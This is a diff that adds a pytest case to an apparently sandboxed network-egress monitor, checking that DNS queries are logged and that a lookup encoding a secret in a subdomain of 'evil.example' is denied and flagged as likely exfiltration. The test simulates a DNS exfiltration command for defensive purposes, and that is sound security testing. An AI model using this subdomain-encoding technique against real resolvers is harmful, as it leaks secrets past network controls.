@@ -284,3 +284,19 @@ def test_ebpf_lock_holds_with_the_nftables_table_deleted(host: Host) -> None:
     assert upstream_paths(host)[before:] == [("GET", "/repos/acme/widgets/pulls/8")]
     udp_out, _ = udp.communicate(timeout=30)
     assert "nothing" in udp_out
+
+
+def test_every_dns_query_is_a_row_and_exfiltration_is_flagged(host: Host) -> None:
+    seen = {r["seq"] for r in host.logs()}
+    secret = "k3J9xQ2mZp8LwR4tVb7N"
+    r = host.run("sh", "-c", f"getent ahostsv4 api.github.com; getent hosts {secret}.evil.example; echo rc=$?")
+    assert "rc=2" in r.stdout  # the secret-bearing name does not resolve
+    assert [ln for ln in r.stdout.splitlines() if "STREAM" in ln][0].split()[0].startswith("10.201.")
+    time.sleep(0.5)
+    new = [x for x in host.logs() if x["seq"] not in seen and x["scheme"] == "dns"]
+    github = [x for x in new if x["host"] == "api.github.com" and x["action"] == "dns.a"]
+    assert github and github[0]["decision"] == "allowed" and github[0]["connector"] == "github"
+    evil = [x for x in new if x["host"].startswith(secret.lower())]
+    assert evil and all(x["decision"] == "denied" and x["status"] == 3 for x in evil)  # NXDOMAIN
+    assert all("likely exfiltration: high-entropy label" in x["reason"] for x in evil)
+    assert all(x["gateway"] == "Bot" for x in new)
